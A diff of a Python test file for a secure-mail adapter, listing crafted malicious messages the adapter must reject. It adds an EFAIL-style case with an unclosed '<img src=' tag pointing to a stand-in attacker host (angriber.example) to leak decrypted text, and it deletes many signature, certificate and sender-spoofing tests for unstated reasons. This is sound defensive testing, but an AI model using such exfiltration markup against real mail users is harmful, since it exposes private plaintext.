@@ -7,7 +7,7 @@ from collections.abc import Callable
 
 from adapters.secure_mail import Reason
 from adapters.secure_mail.asn1 import cms
-from deployments.openssl_mail import openssl, openssl_encrypt, split_outer
+from deployments.openssl_mail import openssl, openssl_encrypt
 from tests.adapters.mail.workshop import (
     CENTRE,
     HELLO,
@@ -50,14 +50,13 @@ def _text_flipped(shop: Workshop) -> bytes:
     return _der_mail(bytes(der))
 
 
-def _changed_after_signing(shop: Workshop) -> bytes:
-    signed = shop.sign(HELLO).replace(b"Goddag", b"Farvel")
-    return outer() + shop.encrypt(signed)
+def _wrapped_in_3des(shop: Workshop) -> bytes:
+    return shop.protect(recipient="own-ec", encrypt=("-des3-wrap",))
 
 
-def _two_signers(shop: Workshop) -> bytes:
-    second = ("-signer", str(shop.certificate("gateway")), "-inkey", str(shop.key("gateway")))
-    return outer() + shop.encrypt(shop.sign(HELLO, "centre", *second))
+def _exfiltrating_by_one_side(shop: Workshop) -> bytes:
+    before = entity("text/html", '<img src="http://angriber.example/')
+    return outer() + multipart("related", before, shop.protect())
 
 
 def _stolen_ciphertext(shop: Workshop) -> bytes:
@@ -130,25 +129,6 @@ def _rc2(shop: Workshop) -> bytes:
     return outer() + openssl_encrypt(shop.sign(HELLO), shop.certificate("own"), "rc2-128", legacy)
 
 
-def _md5_named(shop: Workshop) -> bytes:
-    return shop.protect(sign=("-md", "md5"))
-
-
-def _signed_by(name: str, *options: str) -> Build:
-    return lambda shop: shop.protect(signer=name, sign=options)
-
-
-def _from(*senders: str) -> Build:
-    """The ordinary mail with other From fields."""
-
-    def build(shop: Workshop) -> bytes:
-        fields = "".join(f"From: {sender}\r\n" for sender in senders).encode()
-        rest = outer().split(b"\r\n", 1)[1]
-        return fields + rest + split_outer(shop.protect())[1]
-
-    return build
-
-
 def _pgp(_shop: Workshop) -> bytes:
     parts = (entity("application/pgp-encrypted", "Version: 1\r\n"), entity("application/octet-stream", "x"))
     return outer() + multipart("encrypted", *parts, parameters='; protocol="application/pgp-encrypted"')
@@ -191,44 +171,14 @@ REJECTED: dict[str, tuple[Reason, Build]] = {
     "outer signature over stolen ciphertext": (Reason.NOT_SIGNED, _stolen_ciphertext),
     "ciphertext between pictures": (Reason.ENCRYPTED_PART_NOT_ROOT, _exfiltrating),
     "encrypted mail in a forward": (Reason.ENCRYPTED_PART_NOT_ROOT, _encrypted_in_a_forward),
+    "encrypted html around the ciphertext": (Reason.ENCRYPTED_PART_NOT_ROOT, _exfiltrating_by_one_side),
+    "3des in the key's wrapping": (Reason.WEAK_ENCRYPTION, _wrapped_in_3des),
     "3des": (Reason.WEAK_ENCRYPTION, lambda shop: shop.protect(cipher="des-ede3-cbc")),
     "rc2": (Reason.WEAK_ENCRYPTION, _rc2),
     "last block changed": (Reason.UNDECRYPTABLE, lambda shop: _flipped(shop, "aes-256-cbc", 17)),
     "ciphertext changed": (Reason.BAD_SIGNATURE, _text_flipped),
     "gcm ciphertext changed": (Reason.UNDECRYPTABLE, lambda shop: _flipped(shop, "aes-256-gcm", 900)),
     "gcm tag changed": (Reason.UNDECRYPTABLE, lambda shop: _flipped(shop, "aes-256-gcm", 1)),
-    "sha-1": (Reason.WEAK_SIGNATURE, _signed_by("centre", "-md", "sha1")),
-    "md5": (Reason.WEAK_SIGNATURE, _md5_named),
-    "1024 bits": (Reason.WEAK_SIGNATURE, _signed_by("centre-weak")),
-    "certificate signed with sha-1": (Reason.WEAK_SIGNATURE, _signed_by("centre-sha1")),
-    "pss with sha-1": (
-        Reason.WEAK_SIGNATURE,
-        _signed_by("centre", "-md", "sha1", "-keyopt", "rsa_padding_mode:pss"),
-    ),
-    "changed after signing": (Reason.BAD_SIGNATURE, _changed_after_signing),
-    "two signers": (Reason.SEVERAL_SIGNERS, _two_signers),
-    "signer not sent and not known": (Reason.SIGNER_UNKNOWN, _signed_by("centre-ec", "-nocerts")),
-    "expired": (Reason.CERTIFICATE_EXPIRED, _signed_by("centre-old")),
-    "not yet valid": (Reason.CERTIFICATE_NOT_YET_VALID, _signed_by("centre-new")),
-    "revoked": (Reason.CERTIFICATE_REVOKED, _signed_by("centre-revoked")),
-    "self-signed": (Reason.CERTIFICATE_UNTRUSTED, _signed_by("self-signed")),
-    "rogue root of the same name": (Reason.CERTIFICATE_UNTRUSTED, _signed_by("rogue")),
-    "for servers only": (Reason.CERTIFICATE_PURPOSE, _signed_by("centre-server")),
-    "not for signing": (Reason.CERTIFICATE_PURPOSE, _signed_by("centre-no-signing")),
-    "an authority signs a mail": (Reason.CERTIFICATE_PURPOSE, _signed_by("authority")),
-    "another company": (Reason.SENDER_NOT_PINNED, _signed_by("other-company")),
-    "address not in the certificate": (Reason.SENDER_NOT_PINNED, _signed_by("centre-other-address")),
-    "another partner's certificate": (Reason.SENDER_NOT_PINNED, _signed_by("gateway")),
-    "stranger": (Reason.SENDER_NOT_PINNED, _from("fremmed@anden.example")),
-    "look-alike domain": (Reason.SENDER_NOT_PINNED, _from("jobcenter@kommune.example.anden.example")),
-    "look-alike letters": (Reason.SENDER_AMBIGUOUS, _from("jobcenter@kоmmune.example")),
-    "below the partner's domain": (Reason.SENDER_NOT_PINNED, _from("a@under.kommuneb.example")),
-    "two senders in one field": (Reason.SENDER_AMBIGUOUS, _from(f"{CENTRE}, fremmed@anden.example")),
-    "two from fields": (Reason.SENDER_AMBIGUOUS, _from(CENTRE, "fremmed@anden.example")),
-    "no from field": (Reason.SENDER_AMBIGUOUS, _from()),
-    "group instead of a sender": (Reason.SENDER_AMBIGUOUS, _from(f"Gruppe: {CENTRE};")),
-    "address hidden in a name": (Reason.SENDER_NOT_PINNED, _from(f'"{CENTRE}" <fremmed@anden.example>')),
-    "two pairs of brackets": (Reason.SENDER_AMBIGUOUS, _from(f"<{CENTRE}> <fremmed@anden.example>")),
     "signed for somebody else": (Reason.ADDRESSED_ELSEWHERE, _signed_for_another),
     "unsigned footer inside": (Reason.UNSIGNED_CONTENT, _footer_beside),
     "third part": (Reason.UNSIGNED_CONTENT, _three_parts),
